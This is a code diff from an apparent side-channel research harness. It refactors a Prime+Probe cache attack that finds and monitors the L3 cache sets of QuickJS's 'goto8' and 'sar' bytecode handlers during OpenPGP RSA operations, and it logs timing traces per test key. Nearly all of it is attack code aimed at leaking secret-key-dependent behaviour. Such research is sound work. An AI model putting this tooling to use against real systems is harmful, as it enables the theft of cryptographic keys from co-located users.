@@ -1,11 +1,14 @@
 #include "arch.h"
 #include "config.h"
+#include "fs.h"
 #include "log.h"
 #include "prime_probe.h"
+#include "sample_alloc.h"
 #include "cache/cache_param.h"
 #include "quickjs_runtime.h"
 #include "dsp.h"
 #include "shared_memory.h"
+#include "trace.h"
 
 #include <errno.h>
 #include <fcntl.h>
@@ -28,12 +31,15 @@ static const char *test_name = "quickjs_openpgp_rsa_key_pool";
 static const uint64_t max_exec_cycles = (uint64_t)3e9;
 
 static const uint32_t sar_base_freq = 4667, goto8_base_freq = 9333;
-static uint64_t probe_time_arr[cache_line_count][profile_iterations];
-static uint64_t sample_tsc_arr[cache_line_count][profile_iterations];
+static sample_alloc_t sample_alloc;
 static uint64_t *sample_tsc[cache_line_count];
 static uint64_t *probe_time[cache_line_count];
+static uint64_t sample_count[cache_line_count];
+static uint64_t tsc_base[cache_line_count];
 
 static PS_attacker_thread_config_t pt_goto8, pt_sar;
+static trace_writer_t trace_writer;
+static trace_segment_t trace_segment;
 static pthread_barrier_t attacker_threads_barrier;
 
 static int qsort_lt(const void *a, const void *b) {
@@ -81,8 +87,21 @@ static int check_sar_distribution(uint64_t *probes, int length) {
 	return fabs(1 - ratio) < 0.1;
 }
 
+/*
+ * Whether a set of page_slot may hold the line of the target at
+ * target_page_slot, unless the target set is found already
+ */
+static int check_target_set(EVSet *found,
+                            uint32_t target_page_slot,
+                            uint32_t page_slot) {
+	return found == NULL && target_page_slot + 0 <= page_slot &&
+	       page_slot < target_page_slot + 2;
+}
+
 static int identify_quickjs_target_sets(EVSet **evset_goto8,
-                                        EVSet **evset_sar) {
+                                        EVSet **evset_sar,
+                                        int *goto8_l3_index,
+                                        int *sar_l3_index) {
 	config_t *cfg = get_config();
 	int found = 0;
 
@@ -125,7 +144,6 @@ static int identify_quickjs_target_sets(EVSet **evset_goto8,
 	uint32_t target_goto8_page_slot = (target_goto8 & PAGE_MASK) >>
 	                                  CACHE_LINE_BITS;
 	uint32_t target_sar_page_slot = (target_sar & PAGE_MASK) >> CACHE_LINE_BITS;
-	int goto8_l3_index, sar_l3_index;
 	/* int expect_goto8_cnt = (1 << 12); */
 	/* int expect_sar_cnt = expect_goto8_cnt * 1.5; */
 
@@ -133,97 +151,160 @@ static int identify_quickjs_target_sets(EVSet **evset_goto8,
 	         target_goto8_page_slot,
 	         target_sar_page_slot);
 
+	int scan_sets = PS_scan_sets();
+	int scan_place[PRIME_SCOPE_MAX_SETS];
+	uint64_t *scan_tsc[PRIME_SCOPE_MAX_SETS] = { 0 };
+	uint64_t *scan_probe[PRIME_SCOPE_MAX_SETS] = { 0 };
+	uint64_t scan_count[PRIME_SCOPE_MAX_SETS];
+
+	// Candidates are screened scan_sets per victim run. With EARLY_STOP, a
+	// candidate the sequential test rejects gives its place to the next one
+	// in the same run, a candidate of both targets is never rejected.
+	int early_stop = early_stop_enabled(), cand_cnt = 0;
+	EVSet **cand_evset = malloc(cfg->l3.sets * sizeof(EVSet *));
+	int *cand_l3_set = malloc(cfg->l3.sets * sizeof(int));
+	early_stop_t *cand_es = malloc(cfg->l3.sets * sizeof(early_stop_t));
+	if (cand_evset == NULL || cand_l3_set == NULL || cand_es == NULL) {
+		log_error("Cannot allocate %d candidate sets", cfg->l3.sets);
+		goto out;
+	}
+	for (int k = 0; k < scan_sets; ++k) {
+		scan_tsc[k] = malloc(profile_iterations * sizeof(uint64_t));
+		scan_probe[k] = malloc(profile_iterations * sizeof(uint64_t));
+		if (scan_tsc[k] == NULL || scan_probe[k] == NULL) {
+			log_error("Cannot allocate the samples of scan set %d", k);
+			goto out;
+		}
+	}
+
 	for (int l3_set = 0; l3_set < cfg->l3.sets; ++l3_set) {
 		int page_slot = l3_set % NUM_PAGE_SLOTS;
-		int check_goto8_set = *evset_goto8 == NULL &&
-		                      target_goto8_page_slot + 0 <= page_slot &&
-		                      page_slot < target_goto8_page_slot + 2;
-		int check_sar_set = *evset_sar == NULL &&
-		                    target_sar_page_slot + 0 <= page_slot &&
-		                    page_slot < target_sar_page_slot + 2;
-		/* check_sar_set = 0; */
-		/* check_goto8_set = 0; */
+		int check_goto8_set =
+		    check_target_set(*evset_goto8, target_goto8_page_slot, page_slot);
+		int check_sar_set =
+		    check_target_set(*evset_sar, target_sar_page_slot, page_slot);
 
 		if (!check_goto8_set && !check_sar_set) {
 			continue;
-		} else {
-			log_debug("l3_set: %x, page_slot: %x", l3_set, page_slot);
 		}
-
 		evset = get_sf_kth_evset(l3_set);
-		if (evset) {
-			memset(sample_tsc_arr, 0, sizeof(sample_tsc_arr));
-			memset(probe_time_arr, 0, sizeof(probe_time_arr));
-
-			PS_profile_once(evset,
-			                0,
-			                profile_iterations,
-			                max_exec_cycles,
-			                sample_tsc,
-			                probe_time);
-
-		} else {
+		if (!evset) {
 			log_error("Cannot build evset for set %d", l3_set);
+			continue;
 		}
+		log_debug("l3_set: %x, page_slot: %x", l3_set, page_slot);
+		cand_evset[cand_cnt] = evset;
+		cand_l3_set[cand_cnt] = l3_set;
+		early_stop_init(&cand_es[cand_cnt],
+		                check_goto8_set && check_sar_set ? 0
+		                : check_goto8_set                ? goto8_base_freq
+		                                                 : sar_base_freq,
+		                tsc_frequency());
+		cand_cnt++;
+	}
 
-		int sample_cnt = 0;
-		for (int i = 0; i < profile_iterations; ++i) {
-			if (sample_tsc_arr[0][i] != 0) {
-				++sample_cnt;
+	for (int pos = 0; pos < cand_cnt && !found;) {
+		int scan_cnt = __min(scan_sets, cand_cnt - pos);
+		int taken = PS_profile_screen(&cand_evset[pos],
+		                              scan_cnt,
+		                              early_stop ? cand_cnt - pos : scan_cnt,
+		                              early_stop ? &cand_es[pos] : NULL,
+		                              profile_iterations,
+		                              max_exec_cycles,
+		                              scan_tsc,
+		                              scan_probe,
+		                              scan_count,
+		                              scan_place);
+
+		for (int k = 0; k < scan_cnt; ++k) {
+			if (scan_place[k] < 0) {
+				continue;
 			}
-		}
-		if (check_goto8_set && sample_cnt > 256) {
-			log_info("Check goto8 Set: %d, Count %d", l3_set, sample_cnt);
-			if (check_goto8_distribution(sample_tsc_arr[0], sample_cnt) &&
-			    check_cache_set_psd(
-			        sample_tsc_arr[0], sample_cnt, PS_fs, goto8_base_freq)) {
-				*evset_goto8 = evset;
-				log_info(LOG_BOLD_ON
-				         "Find goto8 evset Set: %d %p, Count %d" LOG_BOLD_OFF,
-				         l3_set,
-				         evset,
-				         sample_cnt);
-				goto8_l3_index = l3_set;
+			int set = cand_l3_set[pos + scan_place[k]];
+			int page_slot = set % NUM_PAGE_SLOTS;
+			int check_goto8_set = check_target_set(
+			    *evset_goto8, target_goto8_page_slot, page_slot);
+			int check_sar_set = check_target_set(
+			    *evset_sar, target_sar_page_slot, page_slot);
+			int sample_cnt = scan_count[k];
+
+			evset = cand_evset[pos + scan_place[k]];
+			if (sample_cnt <= 256 || (!check_goto8_set && !check_sar_set)) {
+				continue;
 			}
-			dump_profiling_trace(test_name,
-			                     l3_set,
-			                     sample_tsc,
-			                     probe_time,
-			                     cache_line_count,
-			                     sample_cnt);
-		}
-		if (check_sar_set && sample_cnt > 256) {
-			log_info("Check sar Set: %d, Count %d", l3_set, sample_cnt);
-			if (check_sar_distribution(sample_tsc_arr[0], sample_cnt) &&
-			    check_cache_set_psd(
-			        sample_tsc_arr[0], sample_cnt, PS_fs, sar_base_freq)) {
-				*evset_sar = evset;
-				log_info(LOG_BOLD_ON
-				         "Find sar evset Set: %d %p, Count %d" LOG_BOLD_OFF,
-				         l3_set,
-				         evset,
-				         sample_cnt);
-				sar_l3_index = l3_set;
+			if (check_goto8_set) {
+				log_info("Check goto8 Set: %d, Count %d", set, sample_cnt);
+				if (check_goto8_distribution(scan_tsc[k], sample_cnt) &&
+				    check_cache_set_psd(
+				        scan_tsc[k], sample_cnt, PS_fs, goto8_base_freq)) {
+					*evset_goto8 = evset;
+					log_info(LOG_BOLD_ON
+					         "Find goto8 evset Set: %d %p, Count %d"
+					         LOG_BOLD_OFF,
+					         set,
+					         evset,
+					         sample_cnt);
+					*goto8_l3_index = set;
+				}
+			}
+			if (check_sar_set) {
+				log_info("Check sar Set: %d, Count %d", set, sample_cnt);
+				if (check_sar_distribution(scan_tsc[k], sample_cnt) &&
+				    check_cache_set_psd(
+				        scan_tsc[k], sample_cnt, PS_fs, sar_base_freq)) {
+					*evset_sar = evset;
+					log_info(LOG_BOLD_ON
+					         "Find sar evset Set: %d %p, Count %d" LOG_BOLD_OFF,
+					         set,
+					         evset,
+					         sample_cnt);
+					*sar_l3_index = set;
+				}
 			}
 			dump_profiling_trace(test_name,
-			                     l3_set,
-			                     sample_tsc,
-			                     probe_time,
-			                     cache_line_count,
+			                     set,
+			                     &scan_tsc[k],
+			                     &scan_probe[k],
+			                     &scan_count[k],
+			                     1,
 			                     sample_cnt);
-		}
 
-		if (*evset_goto8 != NULL && *evset_sar != NULL) {
-			log_info("Find goto8 %d %p and sar %d %p evsets",
-			         goto8_l3_index,
-			         *evset_goto8,
-			         sar_l3_index,
-			         *evset_sar);
-			found = 1;
-			break;
+			if (*evset_goto8 != NULL && *evset_sar != NULL) {
+				log_info("Find goto8 %d %p and sar %d %p evsets",
+				         *goto8_l3_index,
+				         *evset_goto8,
+				         *sar_l3_index,
+				         *evset_sar);
+				found = 1;
+				break;
+			}
+		}
+		pos += taken;
+
+		// Drop the candidates of a target found meanwhile
+		int kept = pos;
+		for (int c = pos; c < cand_cnt; ++c) {
+			int page_slot = cand_l3_set[c] % NUM_PAGE_SLOTS;
+			if (check_target_set(
+			        *evset_goto8, target_goto8_page_slot, page_slot) ||
+			    check_target_set(*evset_sar, target_sar_page_slot, page_slot)) {
+				cand_evset[kept] = cand_evset[c];
+				cand_l3_set[kept] = cand_l3_set[c];
+				cand_es[kept] = cand_es[c];
+				kept++;
+			}
 		}
+		cand_cnt = kept;
 	}
 
+out:
+	free(cand_evset);
+	free(cand_l3_set);
+	free(cand_es);
+	for (int k = 0; k < scan_sets; ++k) {
+		free(scan_tsc[k]);
+		free(scan_probe[k]);
+	}
 	stop_helper_thread(&hctrl);
 	return found;
 }
@@ -232,16 +313,42 @@ void openpgp_rsa_key_pool() {
 	pthread_t thread0 = 0, thread1 = 0, thread2 = 0;
 	int err;
     char test_key_name[256];
+	char segment_path[256];
 
 	if (pthread_barrier_init(&attacker_threads_barrier, NULL, 2) != 0) {
 		log_error("Error initializing barrier\n");
 		return;
 	}
 
+	if (trace_writer_init(&trace_writer,
+	                      sample_tsc,
+	                      probe_time,
+	                      cache_line_count,
+	                      profile_iterations,
+	                      pinned_writer_cpu)) {
+		return;
+	}
+	pt_goto8.writer = &trace_writer;
+	pt_sar.writer = &trace_writer;
+
+	create_directory("output");
+	snprintf(segment_path,
+	         sizeof(segment_path),
+	         "output/%s_r%05lu.seg",
+	         test_name,
+	         victim_runs);
+	if (trace_segment_open(&trace_segment, segment_path)) {
+		return;
+	}
+
 	for (int key_id = 0; key_id < key_pool_size; ++key_id) {
 		sprintf(test_key_name, "%s_key%05d", test_name, key_id);
 		log_info("test key name %s", test_key_name);
 
+		// The previous key's last run may still be in the writer
+		trace_writer_flush(&trace_writer);
+		dump_profiling_segment(&trace_segment, key_id);
+
 		snprintf(
 		    (char *)sync_ctx.data, sync_ctx_data_size, "KEY_ID=%d", key_id);
 		pt_goto8.test_name = test_key_name;
@@ -258,11 +365,15 @@ void openpgp_rsa_key_pool() {
 		pthread_join(thread1, NULL);
 	}
 
+	trace_writer_destroy(&trace_writer);
+	dump_profiling_segment(NULL, 0);
+	trace_segment_close(&trace_segment);
 	pthread_barrier_destroy(&attacker_threads_barrier);
 }
 
 int main() {
 	quickjs_get_bytecode_handler_cacheline();
+	trace_set_default_format(TRACE_FORMAT_PACKED);
 
 	const char *env_victim_runs = getenv("VICTIM_RUNS");
 	if (env_victim_runs != NULL) {
@@ -274,10 +385,16 @@ int main() {
 		}
 	}
 
-	for (int i = 0; i < cache_line_count; ++i) {
-		sample_tsc[i] = sample_tsc_arr[i];
-		probe_time[i] = probe_time_arr[i];
+	if (sample_alloc_init(&sample_alloc,
+	                      2 * cache_line_count * profile_iterations *
+	                          sizeof(uint64_t),
+	                      -1)) {
+		return -1;
 	}
+	sample_alloc_columns(
+	    &sample_alloc, sample_tsc, cache_line_count, profile_iterations);
+	sample_alloc_columns(
+	    &sample_alloc, probe_time, cache_line_count, profile_iterations);
 
 	PS_thread_config_init(pt_goto8);
 	pt_goto8.label = "goto8";
@@ -293,8 +410,14 @@ int main() {
 	/* pt_sar.pin_cpu = pinned_cpu2; */
 	pt_sar.target = (u8 *)((uintptr_t)target_sar + CACHE_LINE_SIZE);
 
-	int found_sets =
-	    identify_quickjs_target_sets(&pt_goto8.evset, &pt_sar.evset);
+	// One 8-byte record per sample, probe_time is left untouched
+	if (trace_get_format() == TRACE_FORMAT_RECORDS) {
+		pt_goto8.tsc_base = tsc_base;
+		pt_sar.tsc_base = tsc_base;
+	}
+
+	int found_sets = identify_quickjs_target_sets(
+	    &pt_goto8.evset, &pt_sar.evset, &pt_goto8.l3_set, &pt_sar.l3_set);
 
 	if (!found_sets) {
 		log_error("Could not find target set for goto8 and sar");
@@ -302,5 +425,6 @@ int main() {
 	}
 
 	openpgp_rsa_key_pool();
+	sample_alloc_destroy(&sample_alloc);
 	return 0;
 }